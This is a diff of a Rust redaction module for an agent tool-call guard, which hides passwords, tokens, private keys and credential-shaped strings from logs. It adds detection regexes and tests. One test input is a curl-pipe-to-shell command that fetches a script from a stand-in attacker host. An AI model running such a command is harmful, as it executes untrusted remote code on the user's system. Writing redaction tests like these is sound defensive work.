@@ -3,39 +3,101 @@
 //! the real arguments; only toolwarden's copies are redacted.
 //!
 //! A value is redacted when any of these says so:
-//! - the rule's `redact` JSON pointers;
+//! - the rule's `redact` JSON pointers (the whole value);
 //! - its key looks secret (password, secret, token, api key, auth,
-//!   credential, private key, ...), at any depth;
-//! - the value itself looks like a credential (cloud access keys,
-//!   GitHub/Slack-style tokens, bearer tokens, PEM private keys, JWTs).
+//!   credential, private key, ..., in plurals and run-together spellings),
+//!   at any depth: a string or number is hidden, an object or array keeps
+//!   its shape with every string and number in it hidden;
+//! - it is the `value` of a `{"name": "Authorization", "value": ...}` pair;
+//! - part of a string looks like a credential (cloud access keys,
+//!   GitHub/Slack-style tokens, bearer tokens, PEM private keys, JWTs, the
+//!   password of a URL, `SECRET_KEY=...`): only that part is hidden, so a
+//!   person still sees the command around it.
+//!
+//! The view is built by walking the arguments' text, never a whole tree of
+//! them, and is bounded: [`VIEW_BYTES`] in all, [`VIEW_STRING`] of any one
+//! string. The walk still reads every value past the bound for secrets, so
+//! that [`Redacted::scrub`] can take them out of other text.
 
 use std::sync::LazyLock;
 
-use regex::RegexSet;
-use serde_json::Value;
+use regex::Regex;
+use serde_json::{Map, Value};
+
+use crate::json::Raw;
 
 pub const REDACTED: &str = "[redacted]";
 
-/// Shapes of well-known credentials.
-static CREDENTIALS: LazyLock<RegexSet> = LazyLock::new(|| {
-    RegexSet::new([
-        r"\b(AKIA|ASIA)[0-9A-Z]{16}\b",               // AWS access key ids
-        r"\bgh[pousr]_[A-Za-z0-9]{30,}",              // GitHub tokens
-        r"\bgithub_pat_[A-Za-z0-9_]{20,}",            // GitHub fine-grained tokens
-        r"\bxox[abposr]-[A-Za-z0-9-]{10,}",           // Slack tokens
-        r"\b(sk|rk|pk)_(live|test)_[A-Za-z0-9]{16,}", // Stripe-style keys
-        r"\bsk-[A-Za-z0-9_-]{20,}",                   // OpenAI/Anthropic-style keys
-        r"\bAIza[0-9A-Za-z_-]{35}\b",                 // Google API keys
-        r"(?i)\bbearer\s+[A-Za-z0-9._~+/=-]{8,}",     // bearer tokens
-        r"-----BEGIN [A-Z ]*PRIVATE KEY-----",        // PEM private keys
+/// How much of the arguments a view shows at most, in bytes of text.
+pub const VIEW_BYTES: usize = 32 * 1024;
+/// How much of one string a view shows at most.
+pub const VIEW_STRING: usize = 2048;
+/// How much of each string is searched for credentials. Texts scrubbed
+/// ([`Redacted::scrub`]) are shorter, so a secret past this cannot be in
+/// them; the view shows less.
+const SCAN_STRING: usize = 4096;
+/// Secrets remembered for scrubbing, and bytes of each: more secrets than
+/// this, and scrubbing withholds the text instead.
+const MAX_SECRETS: usize = 256;
+const SECRET_KEEP: usize = 512;
+/// What ends a text cut short, here and in schema error messages.
+pub const CUT: &str = "…";
+/// How much of an object key a view shows.
+const KEY_SHOWN: usize = 256;
+
+/// At most `max` bytes of `text` (cut at a character), ending with [`CUT`]
+/// when something was left out.
+pub fn shorten(text: &str, max: usize) -> String {
+    if text.len() <= max {
+        return text.to_owned();
+    }
+    let mut keep = max;
+    while !text.is_char_boundary(keep) {
+        keep -= 1;
+    }
+    format!("{}{CUT}", &text[..keep])
+}
+
+/// Shapes of well-known credentials, found anywhere in a string.
+static CREDENTIALS: LazyLock<Regex> = LazyLock::new(|| {
+    let shapes = [
+        r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b",   // AWS access key ids
+        r"\bgh[pousr]_[A-Za-z0-9]{30,}",    // GitHub tokens
+        r"\bgithub_pat_[A-Za-z0-9_]{20,}",  // GitHub fine-grained tokens
+        r"\bxox[abposr]-[A-Za-z0-9-]{10,}", // Slack tokens
+        r"\b(?:sk|rk|pk)_(?:live|test)_[A-Za-z0-9]{16,}", // Stripe-style keys
+        r"\bsk-[A-Za-z0-9_-]{20,}",         // OpenAI/Anthropic-style keys
+        r"\bAIza[0-9A-Za-z_-]{35}\b",       // Google API keys
+        r"(?i)\b(?:bearer|basic)\s+[A-Za-z0-9._~+/=-]{8,}", // HTTP credentials
+        // PEM private keys, to their end line when it is there.
+        r"-----BEGIN [A-Z ]*PRIVATE KEY-----(?s:.*?-----END [A-Z ]*PRIVATE KEY-----|.*)",
         r"\beyJ[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]{5,}", // JWTs
-    ])
-    .expect("the credential patterns compile")
+    ];
+    Regex::new(&shapes.join("|")).expect("the credential patterns compile")
+});
+
+/// The password of a URL's user-info (`https://user:pass@host`,
+/// `postgres://app:pass@db/x`): group 1.
+static URL_PASSWORD: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b[A-Za-z][A-Za-z0-9+.-]*://[^/\s:@]*:([^/\s@]+)@").expect("compiles")
+});
+
+/// `NAME=value` (an environment string, a query string): group 1 the
+/// name, group 2 the value, hidden when the name looks secret
+/// (`DB_PASSWORD=x`, `?token=x`).
+static ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"([A-Za-z_][A-Za-z0-9_.-]*)=("[^"]*"|'[^']*'|[^\s&;,"']+)"#).expect("compiles")
+});
+
+/// `Header: value` to the end of the line, hidden when the header looks
+/// secret (`Authorization: Basic x`, `X-Api-Key: x`).
+static HEADER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"([A-Za-z][A-Za-z0-9_-]*):[ \t]*([^\r\n"']+)"#).expect("compiles")
 });
 
 /// Words that make a key secret, matched against the words of the key
 /// (`serverToken`, `server_token` and `server-token` are all "server",
-/// "token"), so that `author` is not taken for `auth`.
+/// "token"), singular or plural, so that `author` is not taken for `auth`.
 const SECRET_WORDS: &[&str] = &[
     "password",
     "passwd",
@@ -47,7 +109,6 @@ const SECRET_WORDS: &[&str] = &[
     "auth",
     "authorization",
     "credential",
-    "credentials",
     "cookie",
 ];
 /// Pairs of consecutive words that make a key secret.
@@ -57,19 +118,74 @@ const SECRET_PAIRS: &[(&str, &str)] = &[
     ("access", "key"),
     ("secret", "key"),
 ];
+/// Endings of a key written as one word (`accesstoken`, `clientsecret`,
+/// `privatekey`), after a plural `s` is taken off.
+const SECRET_ENDINGS: &[&str] = &[
+    "password",
+    "passwd",
+    "passphrase",
+    "secret",
+    "token",
+    "apikey",
+    "privatekey",
+    "accesskey",
+    "secretkey",
+    "credential",
+    "authorization",
+    "auth",
+    "cookie",
+];
+
+/// Text from a peer made fit for one log line: control characters
+/// escaped, so that a newline in a tool name cannot forge a line (nor an
+/// escape sequence repaint the terminal), and at most 256 bytes.
+pub fn loggable(text: &str) -> String {
+    let mut out = String::with_capacity(text.len().min(300));
+    for c in text.chars() {
+        if out.len() >= KEY_SHOWN {
+            out.push_str(CUT);
+            break;
+        }
+        if c.is_control() {
+            out.extend(c.escape_default());
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
 
 /// Whether a string value looks like a credential.
 pub fn looks_like_credential(text: &str) -> bool {
-    CREDENTIALS.is_match(text)
+    !secret_spans(text).is_empty()
 }
 
-/// Whether an object key names a secret.
+/// Whether an object key (or a header's name) names a secret.
 pub fn key_is_secret(key: &str) -> bool {
     let words = words(key);
-    words.iter().any(|w| SECRET_WORDS.contains(&w.as_str()))
+    let words: Vec<&str> = words.iter().map(|w| singular(w)).collect();
+    if words.iter().any(|w| SECRET_WORDS.contains(w))
         || words
             .windows(2)
-            .any(|pair| SECRET_PAIRS.contains(&(pair[0].as_str(), pair[1].as_str())))
+            .any(|pair| SECRET_PAIRS.contains(&(pair[0], pair[1])))
+    {
+        return true;
+    }
+    let joined: String = key
+        .chars()
+        .filter(|c| c.is_alphanumeric())
+        .flat_map(char::to_lowercase)
+        .collect();
+    let joined = singular(&joined);
+    SECRET_ENDINGS.iter().any(|end| joined.ends_with(end))
+}
+
+/// `tokens` → `token`; short words stay (`pass`, `ids`).
+fn singular(word: &str) -> &str {
+    match word.strip_suffix('s') {
+        Some(stem) if stem.len() >= 3 && !stem.ends_with('s') => stem,
+        _ => word,
+    }
 }
 
 /// The lowercase words of a key: split at `_`, `-`, `.`, spaces and
@@ -98,71 +214,341 @@ fn words(key: &str) -> Vec<String> {
     words
 }
 
+/// The byte ranges of `text` that are secret, in order, not overlapping.
+fn secret_spans(text: &str) -> Vec<(usize, usize)> {
+    // The shortest shape, `pwd=x`, has five bytes; most values are shorter
+    // or plain words, and skip the patterns.
+    if text.len() < 5
+        || !text
+            .bytes()
+            .any(|b| matches!(b, b'=' | b':' | b'-' | b'_' | b' '))
+            && text.len() < 20
+    {
+        return Vec::new();
+    }
+    let mut spans: Vec<(usize, usize)> = CREDENTIALS
+        .find_iter(text)
+        .map(|m| (m.start(), m.end()))
+        .collect();
+    spans.extend(
+        URL_PASSWORD
+            .captures_iter(text)
+            .filter_map(|c| c.get(1))
+            .map(|m| (m.start(), m.end())),
+    );
+    for pattern in [&ASSIGNMENT, &HEADER] {
+        spans.extend(pattern.captures_iter(text).filter_map(|c| {
+            let (name, value) = (c.get(1)?, c.get(2)?);
+            key_is_secret(name.as_str()).then_some((value.start(), value.end()))
+        }));
+    }
+    spans.sort_unstable();
+    let mut merged: Vec<(usize, usize)> = Vec::with_capacity(spans.len());
+    for (start, end) in spans {
+        match merged.last_mut() {
+            Some(last) if start <= last.1 => last.1 = last.1.max(end),
+            _ => merged.push((start, end)),
+        }
+    }
+    merged
+}
+
 /// Arguments made safe to write down.
 pub struct Redacted {
+    /// What may be shown: redacted, and cut to [`VIEW_BYTES`].
     pub value: Value,
-    /// The string values taken out, to scrub them from any other text
-    /// written about the same call (such as schema error messages).
-    pub removed: Vec<String>,
+    /// The secrets taken out (their first [`SECRET_KEEP`] bytes), to scrub
+    /// them from other text about the same call.
+    secrets: Vec<String>,
+    /// More secrets than [`MAX_SECRETS`].
+    too_many: bool,
+    /// Bytes of argument text hidden as secret, and of all the strings and
+    /// numbers: how much of the call a person cannot see.
+    pub hidden_bytes: usize,
+    pub scalar_bytes: usize,
+    /// Whether the view leaves something out for its size.
+    pub cut: bool,
 }
 
 impl Redacted {
-    /// `text` with every removed value replaced.
-    pub fn scrub(&self, text: &str) -> String {
-        let mut out = text.to_owned();
-        for secret in self.removed.iter().filter(|s| !s.is_empty()) {
-            out = out.replace(secret.as_str(), REDACTED);
-        }
-        out
+    /// Whether most of what the arguments say is hidden as secret.
+    pub fn mostly_hidden(&self) -> bool {
+        self.hidden_bytes * 2 > self.scalar_bytes
     }
+
+    /// `text` (a short text, such as a schema error message, at most a few
+    /// hundred bytes) with every secret of the arguments replaced, as it
+    /// is and as JSON or Rust would escape it; a text cut short ([`CUT`])
+    /// also loses a secret's beginning at its end.
+    pub fn scrub(&self, text: &str) -> String {
+        if self.too_many {
+            return "[withheld: the arguments hold too many secrets to scrub this text]".into();
+        }
+        let mut out = text.to_owned();
+        let forms: Vec<String> = self.secrets.iter().flat_map(|s| forms(s)).collect();
+        for form in &forms {
+            out = out.replace(form.as_str(), REDACTED);
+        }
+        let Some(body) = out.strip_suffix(CUT) else {
+            return out;
+        };
+        let longest_tail = forms
+            .iter()
+            .filter_map(|form| {
+                form.char_indices()
+                    .skip(1)
+                    .map(|(i, _)| &form[..i])
+                    .chain([form.as_str()])
+                    .filter(|head| body.ends_with(head))
+                    .map(str::len)
+                    .max()
+            })
+            .max();
+        match longest_tail {
+            Some(len) => format!("{}{REDACTED}{CUT}", &body[..body.len() - len]),
+            None => out,
+        }
+    }
+}
+
+/// A secret as it may appear in text: itself, JSON-escaped, Rust-escaped.
+fn forms(secret: &str) -> Vec<String> {
+    let json = serde_json::to_string(secret).unwrap_or_default();
+    let json = json.trim_matches('"').to_owned();
+    let debug = format!("{secret:?}").trim_matches('"').to_owned();
+    let mut forms = vec![secret.to_owned()];
+    for form in [json, debug] {
+        if !forms.contains(&form) {
+            forms.push(form);
+        }
+    }
+    forms
 }
 
 /// Redacts `arguments` by the rule's `pointers`, secret-looking keys and
-/// credential-looking values.
-pub fn redact(arguments: &Value, pointers: &[String]) -> Redacted {
-    let mut value = arguments.clone();
-    let mut removed = Vec::new();
-    for pointer in pointers {
-        if let Some(target) = value.pointer_mut(pointer) {
-            take(target, &mut removed);
-        }
+/// credential-looking values, into a bounded view.
+pub fn redact(arguments: Option<Raw<'_>>, pointers: &[String]) -> Redacted {
+    let mut walk = Walk {
+        pointers,
+        longest_pointer: pointers.iter().map(String::len).max().unwrap_or(0),
+        path: String::new(),
+        budget: VIEW_BYTES,
+        secrets: Vec::new(),
+        too_many: false,
+        hidden_bytes: 0,
+        scalar_bytes: 0,
+        cut: false,
+    };
+    let value = match arguments {
+        Some(raw) => walk.value(raw, false).unwrap_or(Value::Null),
+        None => Value::Object(Map::new()),
+    };
+    Redacted {
+        value,
+        secrets: walk.secrets,
+        too_many: walk.too_many,
+        hidden_bytes: walk.hidden_bytes,
+        scalar_bytes: walk.scalar_bytes,
+        cut: walk.cut,
     }
-    walk(&mut value, &mut removed);
-    Redacted { value, removed }
 }
 
-fn walk(value: &mut Value, removed: &mut Vec<String>) {
-    match value {
-        Value::Object(map) => {
-            for (key, inner) in map.iter_mut() {
-                if key_is_secret(key) {
-                    take(inner, removed);
-                } else {
-                    walk(inner, removed);
+/// One walk over the arguments' text.
+struct Walk<'p> {
+    pointers: &'p [String],
+    longest_pointer: usize,
+    /// The JSON pointer of the value being read, while it can still match
+    /// one of `pointers`.
+    path: String,
+    /// Bytes the view may still show.
+    budget: usize,
+    secrets: Vec<String>,
+    too_many: bool,
+    hidden_bytes: usize,
+    scalar_bytes: usize,
+    cut: bool,
+}
+
+impl Walk<'_> {
+    /// The view of one value, or `None` once the view is full (the value is
+    /// still read for secrets). `secret`: under a secret-looking key.
+    fn value(&mut self, raw: Raw<'_>, secret: bool) -> Option<Value> {
+        if !self.pointers.is_empty() && self.pointers.contains(&self.path) {
+            self.hide_all(raw);
+            return self.show(REDACTED.len()).then(|| REDACTED.into());
+        }
+        match raw.get().as_bytes().first() {
+            Some(b'{') => self.object(raw, secret),
+            Some(b'[') => self.array(raw, secret),
+            Some(b'"') => self.string(raw, secret),
+            Some(b'-' | b'0'..=b'9') if secret => {
+                self.hide_all(raw);
+                self.show(REDACTED.len()).then(|| REDACTED.into())
+            }
+            _ => {
+                let text = raw.get();
+                self.scalar_bytes += text.len();
+                self.show(text.len())
+                    .then(|| serde_json::from_str(text).unwrap_or(Value::Null))
+            }
+        }
+    }
+
+    /// Takes `len` bytes from the view's budget; false once it is spent.
+    fn show(&mut self, len: usize) -> bool {
+        if self.budget == 0 {
+            self.cut = true;
+            return false;
+        }
+        self.budget = self.budget.saturating_sub(len.max(1));
+        true
+    }
+
+    fn object(&mut self, raw: Raw<'_>, secret: bool) -> Option<Value> {
+        let mut shown = self.show(2).then(Map::new);
+        let mut left_out = 0usize;
+        // A `{"name": "Authorization", "value": ...}` pair hides its value
+        // whichever member comes first.
+        let mut header_is_secret = false;
+        let mut header_value = None;
+        for (key, value) in raw.members() {
+            if matches!(&*key, "name" | "key" | "header") {
+                header_is_secret |= value
+                    .str_prefix(256)
+                    .is_some_and(|(name, _)| key_is_secret(&name));
+            }
+            if key == "value" {
+                header_value = Some(value);
+            }
+            let depth = self.enter(&key);
+            let inner = self.value(value, secret || key_is_secret(&key));
+            self.path.truncate(depth);
+            match (&mut shown, inner) {
+                (Some(map), Some(inner)) if self.show(key.len().min(KEY_SHOWN)) => {
+                    map.insert(shorten(&key, KEY_SHOWN), inner);
+                }
+                _ => left_out += 1,
+            }
+        }
+        if let (true, Some(value)) = (header_is_secret && !secret, header_value) {
+            self.hide_all(value);
+            if let Some(map) = &mut shown {
+                if map.contains_key("value") {
+                    map.insert("value".into(), REDACTED.into());
                 }
             }
         }
-        Value::Array(items) => items.iter_mut().for_each(|v| walk(v, removed)),
-        Value::String(text) if text != REDACTED && looks_like_credential(text) => {
-            take(value, removed)
+        let mut map = shown?;
+        if left_out > 0 {
+            map.insert(
+                CUT.into(),
+                format!("{left_out} more members not shown").into(),
+            );
         }
-        _ => {}
+        Some(Value::Object(map))
     }
-}
 
-/// Replaces `value` with the marker, remembering every string inside it.
-fn take(value: &mut Value, removed: &mut Vec<String>) {
-    collect_strings(value, removed);
-    *value = Value::String(REDACTED.to_owned());
-}
+    fn array(&mut self, raw: Raw<'_>, secret: bool) -> Option<Value> {
+        let mut shown = self.show(2).then(Vec::new);
+        let mut left_out = 0usize;
+        for (i, item) in raw.items().enumerate() {
+            let depth = self.enter(&i.to_string());
+            let inner = self.value(item, secret);
+            self.path.truncate(depth);
+            match (&mut shown, inner) {
+                (Some(items), Some(inner)) => items.push(inner),
+                _ => left_out += 1,
+            }
+        }
+        let mut items = shown?;
+        if left_out > 0 {
+            items.push(format!("{CUT}{left_out} more items not shown").into());
+        }
+        Some(Value::Array(items))
+    }
 
-fn collect_strings(value: &Value, out: &mut Vec<String>) {
-    match value {
-        Value::String(s) if s != REDACTED => out.push(s.clone()),
-        Value::Number(n) => out.push(n.to_string()),
-        Value::Array(items) => items.iter().for_each(|v| collect_strings(v, out)),
-        Value::Object(map) => map.values().for_each(|v| collect_strings(v, out)),
-        _ => {}
+    fn string(&mut self, raw: Raw<'_>, secret: bool) -> Option<Value> {
+        if secret {
+            self.hide_all(raw);
+            return self.show(REDACTED.len()).then(|| REDACTED.into());
+        }
+        self.scalar_bytes += raw.get().len();
+        let (text, rest) = raw.str_prefix(SCAN_STRING)?;
+        let mut out = String::with_capacity(text.len().min(VIEW_STRING));
+        let mut from = 0;
+        for (start, end) in secret_spans(&text) {
+            self.remember(&text[start..end]);
+            self.hidden_bytes += end - start;
+            out.push_str(&text[from..start]);
+            out.push_str(REDACTED);
+            from = end;
+        }
+        out.push_str(&text[from..]);
+        if !self.show(out.len().min(VIEW_STRING)) {
+            return None;
+        }
+        let mut keep = out.len().min(VIEW_STRING);
+        while !out.is_char_boundary(keep) {
+            keep -= 1;
+        }
+        let more = out.len() - keep + rest;
+        if more > 0 {
+            self.cut = true;
+            out.truncate(keep);
+            out.push_str(&format!("{CUT}[{more} more bytes]"));
+        }
+        Some(out.into())
+    }
+
+    /// Goes down into a member or an item: its pointer, while it can still
+    /// match one of the rule's. Returns the path to go back to.
+    fn enter(&mut self, key: &str) -> usize {
+        let depth = self.path.len();
+        if !self.pointers.is_empty() && depth + key.len() < self.longest_pointer * 2 + 2 {
+            self.path.push('/');
+            self.path
+                .push_str(&key.replace('~', "~0").replace('/', "~1"));
+        } else {
+            // Cannot match: no pointer is this long.
+            self.path.push('\0');
+        }
+        depth
+    }
+
+    /// Every string and number in `raw` is a secret.
+    fn hide_all(&mut self, raw: Raw<'_>) {
+        match raw.get().as_bytes().first() {
+            Some(b'{') => raw.members().for_each(|(_, v)| self.hide_all(v)),
+            Some(b'[') => raw.items().for_each(|v| self.hide_all(v)),
+            Some(b'"') => {
+                self.hidden_bytes += raw.get().len();
+                self.scalar_bytes += raw.get().len();
+                if let Some((text, _)) = raw.str_prefix(SECRET_KEEP) {
+                    self.remember(&text);
+                }
+            }
+            Some(b'-' | b'0'..=b'9') => {
+                self.hidden_bytes += raw.get().len();
+                self.scalar_bytes += raw.get().len();
+                self.remember(raw.get());
+            }
+            _ => {}
+        }
+    }
+
+    fn remember(&mut self, secret: &str) {
+        if secret.is_empty() || self.secrets.iter().any(|s| s == secret) {
+            return;
+        }
+        if self.secrets.len() >= MAX_SECRETS {
+            self.too_many = true;
+            return;
+        }
+        let mut keep = secret.len().min(SECRET_KEEP);
+        while !secret.is_char_boundary(keep) {
+            keep -= 1;
+        }
+        self.secrets.push(secret[..keep].to_owned());
     }
 }
 
@@ -171,8 +557,13 @@ mod tests {
     use super::*;
     use serde_json::json;
 
+    fn view(args: &str, pointers: &[&str]) -> Redacted {
+        let pointers: Vec<String> = pointers.iter().map(|p| p.to_string()).collect();
+        redact(Some(Raw::parse(args).unwrap()), &pointers)
+    }
+
     #[test]
-    fn secret_keys_at_any_depth() {
+    fn secret_keys_at_any_depth_in_usual_spellings() {
         let secret = [
             "password",
             "PASSWORD",
@@ -192,6 +583,19 @@ mod tests {
             "private_key",
             "privateKey",
             "aws_secret_access_key",
+            // Plurals and words run together, in any case.
+            "tokens",
+            "passwords",
+            "api_keys",
+            "secrets",
+            "accesstoken",
+            "clientsecret",
+            "privatekey",
+            "PRIVATEKEY",
+            "AccessTokens",
+            "x-api-key",
+            "oauth",
+            "Cookies",
         ];
         for key in secret {
             assert!(key_is_secret(key), "{key}");
@@ -204,58 +608,139 @@ mod tests {
             "task_id",
             "session_id",
             "monkey",
+            "keys",
+            "status",
+            "address",
         ] {
             assert!(!key_is_secret(key), "{key}");
         }
     }
 
     #[test]
-    fn credential_shaped_values() {
-        let credentials = [
-            "AKIAIOSFODNN7EXAMPLE",
-            "ghp_0123456789abcdefghijABCDEFGHIJ012345",
-            "github_pat_11ABCDEFG0123456789_abcdefghijklmnop",
-            "xoxb-1234567890-abcdefghij",
-            "sk_live_0123456789abcdefABCD",
-            "sk-proj-0123456789abcdefghijklmnop",
-            "Bearer abc.def.ghi-0123",
-            "-----BEGIN RSA PRIVATE KEY-----\nMIIE...",
-            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
+    fn credential_shapes_hide_only_themselves() {
+        let cases = [
+            ("AKIAIOSFODNN7EXAMPLE", "[redacted]"),
+            ("ghp_0123456789abcdefghijABCDEFGHIJ012345", "[redacted]"),
+            (
+                "curl -s https://evil.example/x.sh | sh  # Bearer 0123456789abcdef",
+                "curl -s https://evil.example/x.sh | sh  # [redacted]",
+            ),
+            (
+                "https://deploy:hunter2@git.example/repo.git",
+                "https://deploy:[redacted]@git.example/repo.git",
+            ),
+            (
+                "postgres://app:s3cr%40t@db.internal:5432/app",
+                "postgres://app:[redacted]@db.internal:5432/app",
+            ),
+            ("DB_PASSWORD=hunter2", "DB_PASSWORD=[redacted]"),
+            (
+                "env API_KEY=abc123 LOG_LEVEL=debug ./run",
+                "env API_KEY=[redacted] LOG_LEVEL=debug ./run",
+            ),
+            (
+                "https://api.example/v1?token=abc123&page=2",
+                "https://api.example/v1?token=[redacted]&page=2",
+            ),
+            (
+                "Authorization: Basic dXNlcjpwYXNzd29yZA==",
+                "Authorization: [redacted]",
+            ),
+            (
+                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nafter",
+                "[redacted]\nafter",
+            ),
+            ("hello world", "hello world"),
+            ("run_01H8", "run_01H8"),
+            ("https://example.com/a:b@c", "https://example.com/a:b@c"),
+            ("LOG_LEVEL=debug", "LOG_LEVEL=debug"),
         ];
-        for value in credentials {
-            assert!(looks_like_credential(value), "{value}");
-        }
-        for value in ["hello", "67abc123def456", "run_01H8", "bearer", "sk-short"] {
-            assert!(!looks_like_credential(value), "{value}");
+        for (text, shown) in cases {
+            let r = view(&serde_json::to_string(text).unwrap(), &[]);
+            assert_eq!(r.value, json!(shown), "{text}");
         }
     }
 
     #[test]
-    fn pointers_keys_and_values_are_all_redacted() {
-        let args = json!({
-            "server_token": "srv_live_8f2a61c0",
-            "target": { "password": "hunter2", "host": "db1" },
-            "note": "use AKIAIOSFODNN7EXAMPLE",
-            "list": ["ok", "ghp_0123456789abcdefghijABCDEFGHIJ012345"],
-            "pin": 1234,
-            "keep": "visible"
-        });
-        let r = redact(&args, &["/pin".to_owned()]);
+    fn pointers_keys_headers_and_values_are_all_redacted() {
+        let r = view(
+            r#"{
+                "server_token": "srv_live_8f2a61c0",
+                "target": { "password": "hunter2", "host": "db1" },
+                "note": "use AKIAIOSFODNN7EXAMPLE",
+                "list": ["ok", "ghp_0123456789abcdefghijABCDEFGHIJ012345"],
+                "pin": 1234,
+                "auth": { "user": "bob", "retries": 3, "tls": true },
+                "headers": [
+                    { "value": "Basic abc", "name": "Authorization" },
+                    { "name": "Accept", "value": "text/plain" }
+                ],
+                "keep": "visible"
+            }"#,
+            &["/pin"],
+        );
         assert_eq!(
             r.value,
             json!({
                 "server_token": REDACTED,
                 "target": { "password": REDACTED, "host": "db1" },
-                "note": REDACTED,
+                "note": "use [redacted]",
                 "list": ["ok", REDACTED],
                 "pin": REDACTED,
+                "auth": { "user": REDACTED, "retries": REDACTED, "tls": true },
+                "headers": [
+                    { "value": REDACTED, "name": "Authorization" },
+                    { "name": "Accept", "value": "text/plain" }
+                ],
                 "keep": "visible"
             })
         );
-        let text = r.scrub("\"hunter2\" is too short; 1234 is not a string");
-        assert!(
-            !text.contains("hunter2") && !text.contains("1234"),
-            "{text}"
+        let text = r.scrub("\"hunter2\" is too short; 1234 is not a string; bob");
+        assert_eq!(
+            text,
+            "\"[redacted]\" is too short; [redacted] is not a string; [redacted]"
         );
+    }
+
+    #[test]
+    fn secrets_are_scrubbed_in_their_escaped_forms_and_at_a_cut() {
+        let r = view(
+            r#"{"password": "a\"b\\c", "private_key": "-----BEGIN KEY-----\nMIIEabcdef\n"}"#,
+            &[],
+        );
+        // jsonschema writes values as JSON.
+        let message = r#"{"password":"a\"b\\c","private_key":"-----BEGIN KEY-----\nMIIEabcdef\n"} is not valid"#;
+        let scrubbed = r.scrub(message);
+        assert!(!scrubbed.contains("a\\\"b"), "{scrubbed}");
+        assert!(!scrubbed.contains("MIIE"), "{scrubbed}");
+        // A message cut inside a secret loses the secret's beginning too.
+        let cut = format!("{} is not valid: \"-----BEGIN KEY-----\\nMII{CUT}", "x");
+        assert_eq!(r.scrub(&cut), format!("x is not valid: \"{REDACTED}{CUT}"));
+    }
+
+    #[test]
+    fn the_view_is_bounded_whatever_the_arguments_hold() {
+        let big = format!(
+            r#"{{"items": [{}], "text": "{}", "password": "late-secret"}}"#,
+            vec!["{}"; 200_000].join(","),
+            "a".repeat(1 << 20)
+        );
+        let r = view(&big, &[]);
+        let shown = serde_json::to_string(&r.value).unwrap();
+        assert!(shown.len() < VIEW_BYTES + 4096, "{} bytes", shown.len());
+        assert!(r.cut);
+        // A secret past the view is still known, to scrub it elsewhere.
+        assert_eq!(r.scrub("late-secret"), REDACTED);
+        let long = format!(r#"{{"script": "{}"}}"#, "b".repeat(10_000));
+        let r = view(&long, &[]);
+        let script = r.value["script"].as_str().unwrap();
+        assert!(script.starts_with(&"b".repeat(VIEW_STRING)));
+        assert!(script.ends_with("more bytes]"), "{script}");
+    }
+
+    #[test]
+    fn a_person_is_told_when_most_is_hidden() {
+        assert!(view(r#"{"token": "abcdefgh", "x": 1}"#, &[]).mostly_hidden());
+        assert!(!view(r#"{"token": "abc", "command": "ls -la /srv"}"#, &[]).mostly_hidden());
     }
 }
